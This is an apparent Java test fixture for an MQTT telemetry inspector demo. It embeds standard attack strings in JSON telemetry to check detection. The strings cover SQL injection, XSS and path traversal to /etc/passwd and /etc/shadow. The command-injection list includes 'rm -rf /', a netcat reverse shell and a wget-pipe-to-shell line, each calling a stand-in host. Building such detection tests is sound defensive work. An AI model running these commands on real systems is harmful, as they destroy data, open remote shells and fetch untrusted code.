package io.mqttsentinel.demo;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/**
 * What the payload attackers put in their telemetry. The injection strings are the architecture's examples and
 * well-known entries of the public lists the inspector is measured on (libinjection, PayloadsAllTheThings), sent
 * as a device would: a string value inside JSON telemetry.
 */
final class AttackPayloads {
    /** Size of the oversized payload: above the inspector's 10 KiB limit. */
    static final int OVERSIZED_BYTES = 16 * 1024;
    /** Size of the high-entropy blob: above the 1 KiB the entropy check needs, below the size limit. */
    static final int ENTROPY_BYTES = 2 * 1024;

    private AttackPayloads() {
    }

    /**
     * @param kind one of the four signature kinds
     * @return its attack strings
     */
    static List<String> signatures(AttackKind kind) {
        switch (kind) {
            case SQL_INJECTION:
                return List.of("' OR '1'='1", "1 UNION SELECT username, password FROM users--", "admin'--",
                        "1; DROP TABLE devices--", "' OR 1=1 LIMIT 1 --");
            case COMMAND_INJECTION:
                return List.of("; cat /etc/passwd", "&& rm -rf /", "| nc -e /bin/sh 203.0.113.9 4444",
                        "$(wget -qO- http://203.0.113.9/x.sh | sh)", "`id`");
            case XSS:
                return List.of("<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
                        "javascript:alert(1)", "<svg onload=alert(1)>");
            case PATH_TRAVERSAL:
                return List.of("../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//....//etc/passwd",
                        "..\\..\\..\\windows\\win.ini");
            default:
                throw new IllegalArgumentException(kind + " has no signature payloads");
        }
    }

    /**
     * @param attack an attack string
     * @return telemetry that carries it: {@code {"temp":21.5,"note":"<attack>"}}
     */
    static byte[] inTelemetry(String attack) {
        StringBuilder b = new StringBuilder("{\"temp\":21.5,\"note\":\"");
        for (char c : attack.toCharArray()) {
            if (c == '"' || c == '\\') {
                b.append('\\');
            }
            b.append(c);
        }
        return b.append("\"}").toString().getBytes(StandardCharsets.UTF_8);
    }

    /** @return {@value #OVERSIZED_BYTES} bytes of plausible telemetry: a long array of readings */
    static byte[] oversized() {
        StringBuilder b = new StringBuilder("{\"temp\":21.5,\"samples\":[");
        for (int i = 0; b.length() < OVERSIZED_BYTES - 16; i++) {
            b.append(i == 0 ? "" : ",").append(20 + i % 7).append('.').append(i % 10);
        }
        b.append("]}");
        while (b.length() < OVERSIZED_BYTES) {
            b.insert(1, ' ');
        }
        return b.toString().getBytes(StandardCharsets.US_ASCII);
    }

    /**
     * @param random the source of the bytes
     * @return {@value #ENTROPY_BYTES} random bytes (about 7.9 bits per byte: encrypted or packed data)
     */
    static byte[] highEntropy(Random random) {
        byte[] b = new byte[ENTROPY_BYTES];
        random.nextBytes(b);
        return b;
    }
}
